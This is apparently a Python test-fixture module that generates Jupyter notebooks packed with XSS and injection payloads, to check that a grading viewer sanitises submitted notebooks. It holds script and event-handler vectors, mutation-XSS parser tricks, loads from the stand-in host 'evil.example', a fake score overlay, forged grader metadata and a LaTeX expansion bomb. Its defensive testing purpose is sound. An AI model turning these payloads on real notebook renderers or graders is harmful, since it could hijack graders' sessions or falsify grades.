"""Notebooks that try to run or load something in the page that is made of them.

What runs sets `window.ran` or opens a dialog, and what loads asks for an address of `HOST`.
"""

from __future__ import annotations

import base64
import io
import itertools
import zlib
from collections.abc import Callable
from typing import Any

import nbformat
from nbformat import NotebookNode, v4

HOST = "evil.example"
RUN = "window.ran=1;alert(1)"
URL = f"//{HOST}/x"


def coded(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def png(width: int = 40, height: int = 30, colour: bytes = b"\x20\x60\xc0") -> str:
    """Make a picture of one colour, in base64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = zlib.crc32(kind + data).to_bytes(4, "big")
        return len(data).to_bytes(4, "big") + kind + data + check

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    rows = (b"\x00" + colour * width) * height
    data = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return coded(b"\x89PNG\r\n\x1a\n" + data)


def picture(kind: str) -> str:
    """Make a picture of another kind, in base64."""
    from PIL import Image

    file = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 80, 20)).save(file, kind)
    return coded(file.getvalue())


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">'
    f'<rect width="40" height="30" fill="#396"/><script>{RUN}</script>'
    f'<image href="http:{URL}.svg"/></svg>'
)

HTML = {
    "script": f"<script>{RUN}</script>",
    "script of another host": f'<script src="{URL}.js"></script>',
    "script with odd case and space": f"<ScRiPt\n>{RUN}</sCrIpT >",
    "script nested in script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "unclosed script": f"<script>{RUN}",
    "module": f'<script type="module">import "{URL}.js"; {RUN}</script>',
    "picture that fails": f'<img src=x onerror="{RUN}">',
    "picture that fails, slashes": f"<img/src=x/onerror={RUN}>",
    "picture of another host": f'<img src="http:{URL}.png"><img srcset="{URL}.png 2x">',
    "picture of the grader's server": '<img src="/formgrader/gradebook">',
    "focus": f'<input autofocus onfocus="{RUN}"><a tabindex=1 onfocus="{RUN}" autofocus>x</a>',
    "toggle": f'<details open ontoggle="{RUN}"><summary>s</summary>x</details>',
    "animation handler": f'<b style="animation: a 1s" onanimationstart="{RUN}">x</b>',
    "unquoted handler": f"<b onclick={RUN}>x</b><b ONMOUSEOVER={RUN}>y</b>",
    "javascript link": f'<a href="javascript:{RUN}">x</a>',
    "javascript link, disguised": f'<a href=" java&#9;script&colon;{RUN}">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "link to the grader's server": '<a href="/formgrader/?path=/tmp/eve">the plot</a>',
    "link that pings": f'<a href="http:{URL}" ping="{URL}" download>x</a>',
    "svg with script": f"<svg><script>{RUN}</script></svg>",
    "svg that loads": f'<svg onload="{RUN}"><image href="{URL}"/><use href="{URL}#a"/></svg>',
    "svg with foreignObject": f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    "svg that animates a link": (
        f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text>x</text></a></svg>'
    ),
    "svg with a set": f'<svg><set attributeName="onmouseover" to="{RUN}"/></svg>',
    "style that loads": f'<div style="background:url({URL})">x</div>',
    "style that escapes": f'<div style="background:\\75rl({URL});color:red">x</div>',
    "style with an expression": f'<div style="width:expression({RUN});-moz-binding:url({URL})">x',
    "style with image-set": f"<div style=\"background:image-set('{URL}' 1x)\">x</div>",
    "style over the page": '<div style="position:fixed;inset:0;z-index:9999">Score: 4.0</div>',
    "style element that imports": f'<style>@import "{URL}.css";</style>x',
    "style element with a font": f"<style>@font-face{{font-family:a;src:url({URL})}}</style>x",
    "style element that loads": f"<style>body{{background:url({URL})}} b{{color:red}}</style><b>x",
    "style element that ends": f"<style>b{{color:red}}</style ><img src=x onerror={RUN}>",
    "style element that ends in a string": (
        f"<style>b{{font-family:'</style><script>{RUN}</script>'}}</style>"
    ),
    "style element over the page": "<style>.panel{display:none} a{position:fixed}</style>x",
    "link element": f'<link rel="stylesheet" href="{URL}.css"><link rel=prefetch href="{URL}">',
    "base": f'<base href="http:{URL}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=http:{URL}">',
    "policy of its own": (
        f'<meta http-equiv="Content-Security-Policy" content="script-src *"><script>{RUN}</script>'
    ),
    "form": f'<form action="{URL}"><input name=p type=password><button formaction="{URL}">x</form>',
    "button of a form elsewhere": f'<button form="f" formaction="javascript:{RUN}">x</button>',
    "iframe": f'<iframe src="{URL}"></iframe>',
    "iframe with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe with javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="{URL}"><param name=x></object><embed src="{URL}">',
    "frames": f'<frameset onload={RUN}><frame src="{URL}"></frameset>',
    "video": f'<video src="{URL}" onerror={RUN} poster="{URL}"><source src="{URL}"></video>',
    "audio": f"<audio src=x onerror={RUN} autoplay></audio>",
    "math with a link": f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">x</mi>',
    "math with an action": f'<math><maction actiontype="statusline#{URL}">x</maction></math>',
    "math with annotation": (
        f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml>'
    ),
    "math, table, style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "form, math, form": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src onerror={RUN}></style></mglyph></form>"
    ),
    "svg, style, attribute": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "noscript and attribute": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "title and attribute": f'<title><a title="</title><img src=x onerror={RUN}>">',
    "textarea and attribute": f'<textarea><a title="</textarea><img src=x onerror={RUN}>">',
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    "template": f"<template><script>{RUN}</script></template>",
    "shadow root": f'<div><template shadowrootmode="open"><img src=x onerror={RUN}></template>',
    "comment that ends": f"<!--><img src=x onerror={RUN}>-->",
    "comment that ends, oddly": f"<!--x--!><img src=x onerror={RUN}>",
    "instruction": f"<?xml-stylesheet href='{URL}'?><![CDATA[<script>{RUN}</script>]]>",
    "broken attribute": f'<img title="`><script>{RUN}</script>',
    "tag with a null": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x on\0error={RUN}>",
    "end of the page": f"</div></div></body></html><script>{RUN}</script>",
    "ids of the page": '<div id="submission_id"></div><form id="MathJax" name="base_url"></form>',
    "classes of the page": '<div class="nbgrader_cell navbar-fixed-top modal" data-toggle="x">',
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "keygen": f"<keygen autofocus onfocus={RUN}><isindex action=javascript:{RUN} type=image>",
    "popover": f"<button popovertarget=x>a</button><div popover id=x onbeforetoggle={RUN}>b</div>",
}
"""What an output can hold as text/html, and a Markdown cell as it stands."""


def _growing() -> str:
    """Write LaTeX whose last command stands for a thousand million letters."""
    lines = [r"\newcommand{\a}{xxxxxxxxxx}"]
    for name, after in itertools.pairwise("abcdefghi"):
        lines.append(rf"\newcommand{{\{after}}}{{" + rf"\{name}" * 10 + "}")
    return "".join(lines) + r"\i"


MARKDOWN = {
    "javascript link": f"[x](javascript:{RUN})",
    "javascript link, disguised": f"[x](JaVa&#115;cript:{RUN})",
    "javascript link by reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "data link": "[x](data:text/html;base64," + coded(f"<script>{RUN}</script>") + ")",
    "javascript by itself": f"<javascript:{RUN}>",
    "picture with javascript": f"![x](javascript:{RUN})",
    "picture of another host": f"![x](http:{URL}.png)",
    "picture with a handler": f'![x](x "a\\" onerror=\\"{RUN}")',
    "picture out of the folder": "![x](../../../../../../etc/hostname.png)",
    "attachment that is missing": "![x](attachment:none.png)",
    "title with a handler": f"[x](http://a.b 'y\" onmouseover=\"{RUN}')",
    "formula with a script": rf"$\text{{<script>{RUN}</script>}}$",
    "formula with a picture": rf"$$\mbox{{<img src=x onerror={RUN}>}}$$",
    "formula with entities": rf"$\text{{&lt;img src=x onerror={RUN}&gt;}}$",
    "formula with a link": rf"$\href{{javascript:{RUN}}}{{x}}$",
    "formula with an operator": rf"$\operatorname{{<svg onload={RUN}>}}$",
    "formula with a style": rf"$\style{{background:url({URL})}}{{x}}$",
    "formula that grows": f"${_growing()}$",
    "formula that is no formula": rf"\begin{{equation}}<img src=x onerror={RUN}>\end{{equation}}",
    "formula without an end": "$$<script>" + RUN + "</script>",
    "code with a script": f"```html\n</code></pre><script>{RUN}</script>\n```",
    "code in a language with a handler": f'```"><img/src=x/onerror={RUN}>\nx\n```',
    "mermaid": f"```mermaid\n</pre><script>{RUN}</script>\n```",
    "table with a script": f"| a |\n|---|\n| <script>{RUN}</script> |",
    "heading with a handler": f"# x <img src=x onerror={RUN}>",
}
"""What a Markdown cell can hold besides."""


def notebook(*cells: NotebookNode, **metadata: Any) -> NotebookNode:
    """Make a notebook that is as it should be."""
    known = {"kernelspec": {"name": "python3", "display_name": "Python 3"}, **metadata}
    return v4.new_notebook(cells=list(cells), metadata=known)


def showing(**data: Any) -> NotebookNode:
    """Make a cell that shows something; `_` in a name stands for `/`."""
    kinds = {name.replace("_", "/", 1).replace("__", "+"): value for name, value in data.items()}
    return v4.new_code_cell("show()", outputs=[v4.new_output("display_data", data=kinds)])


def _changed(
    cell: NotebookNode, change: Callable[[NotebookNode], Any], **meta: Any
) -> NotebookNode:
    made = notebook(cell, **meta)
    change(made.cells[0])
    return made


def _state() -> dict[str, Any]:
    text = f"</script><script>{RUN}</script>"
    return {"application/vnd.jupyter.widget-state+json": {"state": {"m": text}, "version_major": 2}}


def structures() -> dict[str, NotebookNode]:
    """Give notebooks whose outputs, metadata and attachments are not as they should be."""
    handler = f'x" onerror="{RUN}'
    script = f"<script>{RUN}</script>"
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/html": script}
    markdown = v4.new_markdown_cell
    code = v4.new_code_cell
    made = {
        "javascript": notebook(showing(application_javascript=RUN, text_plain="js")),
        "markdown output": notebook(showing(text_markdown=f"{script}[x](javascript:{RUN})")),
        "latex output": notebook(showing(text_latex=f"$x$ {script}")),
        "plain output": notebook(showing(text_plain=f"{script}")),
        "svg output": notebook(showing(image_svg__xml=SVG)),
        "mermaid output": notebook(showing(**{"text_vnd.mermaid": f"</pre>{script}"})),
        "widget": notebook(
            code("x", outputs=[v4.new_output("display_data", data=view)]), widgets=_state()
        ),
        "widgets that are none": notebook(showing(text_plain="x"), widgets={"a": script}),
        "unknown kinds": notebook(showing(application_pdf=coded("x"), **{f"text_{script}": "x"})),
        "picture that is none": notebook(showing(image_png=handler)),
        "title": notebook(markdown("x"), title=f"</title>{script}"),
        "language": notebook(
            code("x"), language_info={"name": f"'>{script}", "pygments_lexer": f"'>{script}"}
        ),
        "kernel": notebook(code("x"), kernelspec={"name": script, "display_name": script}),
        "ansi": notebook(
            code("x", outputs=[
                v4.new_output("stream", text=f"\x1b[31m{script}\x1b[38;2;1;2;3m<img src=x>\x1b["),
                v4.new_output("stream", text=f"\x1b]8;;javascript:{RUN}\x1b\\x\x1b]8;;\x1b\\"),
            ])
        ),
        "traceback": notebook(
            code("x", outputs=[
                v4.new_output("error", ename=script, evalue=script, traceback=[f"\x1b[1m{script}"])
            ])
        ),
        "source": notebook(code(f"# </pre>{script}\n'''<img src=x onerror={RUN}>")),
        "attachment": notebook(
            markdown("![x](attachment:a)", attachments={"a": {f"text/html,{script}": "x"}})
        ),
        "attachment with a quote": notebook(
            markdown("![x](attachment:a)", attachments={"a": {"image/png": handler}})
        ),
        "attachment that is a page": notebook(
            markdown("![x](attachment:a)", attachments={"a": {"text/html": coded(script)}})
        ),
        "size with a handler": notebook(
            code("x", outputs=[
                v4.new_output("display_data", data={"image/png": png()},
                              metadata={"image/png": {"width": f"1 onload={RUN}", "height": "1"},
                                        "width": f"1 onload={RUN}", "alt": handler}),
            ])
        ),
        "isolated": notebook(
            code("x", outputs=[
                v4.new_output("display_data", data={"text/html": script},
                              metadata={"text/html": {"isolated": True}, "isolated": True}),
            ])
        ),
        "picture by a name": _changed(
            showing(image_svg__xml=SVG), lambda c: c.outputs[0].update(svg_filename=f"http:{URL}")
        ),
        "picture by names": _changed(
            showing(image_png=png()),
            lambda c: c.outputs[0].metadata.update(filenames={"image/png": f"http:{URL}"}),
        ),
        "count": _changed(code("x"), lambda c: c.update(execution_count=script)),
        "cell's id": _changed(code("x"), lambda c: c.update(id=f'"{script}')),
        "tags": _changed(code("x"), lambda c: c.metadata.update(tags=[f'"{script}', "a b navbar"])),
        "magic's language": _changed(
            code("x"), lambda c: c.metadata.update(magics_language=f"'>{script}")
        ),
        "graded by its own word": _changed(
            code("x"),
            lambda c: c.metadata.update(nbgrader={
                "grade_id": f'"{script}', "grade": True, "points": script, "solution": True,
                "comment": script, "score": 9,
            }),
        ),
        "raw": notebook(v4.new_raw_cell(script)),
        "raw for the web": notebook(
            v4.new_raw_cell(script, metadata={"raw_mimetype": "text/html"})
        ),
        "kind unknown": _changed(code("x"), lambda c: c.update(cell_type=script, type=script)),
        "output unknown": _changed(
            showing(text_plain="x"), lambda c: c.outputs[0].update(output_type="html", text=script)
        ),
        "lists and numbers": _changed(
            showing(text_plain="x"),
            lambda c: c.outputs[0].update(data={"text/html": [script], "text/plain": {"a": 1}}),
        ),
    }  # fmt: skip
    return made


def snippets() -> dict[str, NotebookNode]:
    """Give all of them, one notebook each, by name."""
    made = {f"html: {name}": notebook(showing(text_html=text)) for name, text in HTML.items()}
    made |= {
        f"markdown: {name}": notebook(v4.new_markdown_cell(text))
        for name, text in {**MARKDOWN, **{f"html: {n}": t for n, t in HTML.items()}}.items()
    }
    return made | {f"structure: {name}": nb for name, nb in structures().items()}


def all_in_one() -> NotebookNode:
    """Give one notebook that tries it all, as somebody could hand it in."""
    whole = notebook(title=f"</title><script>{RUN}</script>", widgets=_state())
    for name, made in snippets().items():
        whole.cells.append(v4.new_markdown_cell(f"**{name}**"))
        whole.cells += made.cells
    return nbformat.from_dict(whole)
